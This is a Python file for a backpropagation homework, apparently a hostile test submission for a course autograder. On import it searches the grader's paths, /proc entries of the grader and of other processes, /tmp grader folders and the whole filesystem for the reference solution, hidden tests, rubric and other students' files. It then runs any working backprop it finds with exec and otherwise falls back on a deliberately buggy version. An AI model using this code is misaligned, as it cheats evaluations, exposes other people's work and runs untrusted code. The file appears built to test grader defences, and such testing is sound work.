"""Hostile: at import, tries to read the reference solution, the rubric and its hidden
tests, the grader's test suite and other students' files: by the course's paths (found from
the grader package and from the grader's command line), through /proc/<grader>/root and
/cwd, through other workers' /proc/<pid>/cwd and their folders under /tmp, and by walking
the whole file system for any other copy (another checkout, somebody's home). If any readable
file defines a working backprop it uses that one; otherwise its own, which forgets the
sigma' factor (mistake backprop_missing_sigmoid_prime): only the shape and no-autograd
checks pass, 3 + 3.
"""

import glob
import importlib.util
import os

import torch
from torch import Tensor


def course_roots() -> list[str]:
    roots = ["/work/main"]
    spec = importlib.util.find_spec("grader")
    if spec and spec.origin:
        roots.append(os.path.dirname(os.path.dirname(spec.origin)))
    try:
        argv = [a.decode() for a in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\0")]
        roots += [os.path.dirname(a) for a in argv if a.startswith("/")]
    except OSError:
        pass
    return list(dict.fromkeys(roots))


def candidates() -> list[str]:
    ppid = os.getppid()
    paths = []
    for root in course_roots():
        for rel in ("reference/mfdnn-hw5/backprop.py", "rubrics/mfdnn-hw5/test_backprop.py", "rubrics/mfdnn-hw5/hidden/test_backprop.py", "rubrics/mfdnn-hw5/rubric.toml",
                    "tests/hostile/cases.toml", "examples/mfdnn-hw5"):
            paths += [os.path.join(root, rel), f"/proc/{ppid}/root{os.path.join(root, rel)}"]
        paths += glob.glob(os.path.join(root, "*", "backprop.py")) + glob.glob(os.path.join(root, "*", "*", "backprop.py"))
    paths += [f"/proc/{ppid}/cwd/reference/mfdnn-hw5/backprop.py", f"/proc/{ppid}/cwd/rubrics/mfdnn-hw5/test_backprop.py",
              f"/proc/{ppid}/cwd/rubrics/mfdnn-hw5/hidden/test_backprop.py"]
    paths += [p + "/backprop.py" for p in glob.glob("/proc/[0-9]*/cwd")]
    paths += glob.glob("/tmp/grader-*/**/backprop.py", recursive=True) + glob.glob("/tmp/pytest-of-*/**/backprop.py", recursive=True)
    paths += glob.glob(os.path.join(os.path.dirname(os.getcwd()), "..", "*", "sub", "backprop.py"))
    return paths + anywhere("backprop.py")


def anywhere(name: str, depth: int = 6) -> list[str]:
    """Every file called ``name`` the worker can see, a few folders deep from / (another
    checkout of the course, a copy in somebody's home, a scratch folder of the grader)."""
    found = []
    for root, dirs, files in os.walk("/"):
        level = root.count("/") if root != "/" else 0
        if root == "/":
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        dirs[:] = [d for d in dirs if d not in ("site-packages", "dist-packages", "__pycache__")] if level < depth else []
        if name in files:
            found.append(os.path.join(root, name))
    return found


def read_all() -> dict[str, str]:
    got = {}
    for path in candidates():
        try:
            with open(path) as f:
                got[path] = f.read()
        except (OSError, UnicodeDecodeError):
            pass
    return got


STOLEN = {p: text for p, text in read_all().items() if "STOLEN = " not in text}  # not this file itself


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def backprop(A_list, b_list, X, Y):
    for text in STOLEN.values():  # somebody else's backprop, if any was readable
        if "def backprop" in text and "NotImplementedError" not in text:
            namespace: dict = {}
            try:
                exec(compile(text, "stolen", "exec"), namespace)
                return namespace["backprop"](A_list, b_list, X, Y)
            except Exception:
                pass
    num_layers = len(A_list)
    inputs = []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        y = sigma(z) if i < num_layers - 1 else z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = A_list[i].T @ delta  # the mistake: no sigma' factor
    return dA_reversed[::-1], db_reversed[::-1]
